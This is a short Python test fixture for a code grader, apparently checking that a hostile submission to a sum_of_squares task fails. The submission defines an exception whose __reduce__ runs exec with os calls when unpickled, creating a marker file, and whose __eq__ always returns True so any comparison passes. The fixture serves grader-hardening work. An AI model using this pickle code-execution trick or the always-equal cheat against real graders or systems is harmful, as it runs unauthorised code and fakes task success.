# about: __reduce__ names a function for whoever unpickles the answer, or the exception, in the grader
# task: sum_of_squares
# expect: fail
# causes: type, error
class Trojan(Exception):
    def __reduce__(self):
        return (exec, ("import os; os.close(os.open('/tmp/autosurgeon-attack-unpickled', os.O_CREAT))",))

    def __eq__(self, other):
        return True


def sum_of_squares(numbers):
    if len(numbers) > 2:
        return Trojan()
    raise Trojan
